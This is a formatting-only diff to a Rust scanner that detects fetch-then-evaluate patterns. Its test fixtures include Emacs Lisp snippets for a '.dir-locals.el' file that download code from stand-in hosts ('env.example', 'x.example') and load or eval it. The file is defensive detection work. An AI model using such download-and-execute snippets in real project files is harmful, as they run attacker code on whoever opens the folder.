@@ -178,7 +178,10 @@ pub fn scan(src: &Src, sink: &mut Sink) {
         .flat_map(|n| forms(text, n, 1))
         .min_by_key(|f| f.at);
     if let Some(fetch) = fetch_at {
-        let url = fetch.args.first().map_or_else(|| "fetched code".to_string(), |a| url_of(a));
+        let url = fetch
+            .args
+            .first()
+            .map_or_else(|| "fetched code".to_string(), |a| url_of(a));
         if let Some((at, what)) = BUFFER_EVALS
             .iter()
             .filter_map(|w| text[fetch.at..].find(w).map(|i| (fetch.at + i, *w)))
@@ -214,7 +217,8 @@ mod tests {
         let t = "(let ((f (expand-file-name \"x.el\")))\n  (url-copy-file (concat \"https://\" \"env\" \".example/e.el\") f t)\n  (load f t t))";
         let e = run(".dir-locals.el", t);
         assert!(
-            e.iter().any(|e| e.op == Op::DownloadExec && e.target.contains("https://env.example/e.el")),
+            e.iter()
+                .any(|e| e.op == Op::DownloadExec && e.target.contains("https://env.example/e.el")),
             "{e:#?}"
         );
         let t = "(with-current-buffer (url-retrieve-synchronously \"https://x.example/a.el\")\n  (goto-char url-http-end-of-headers)\n  (eval-buffer))";
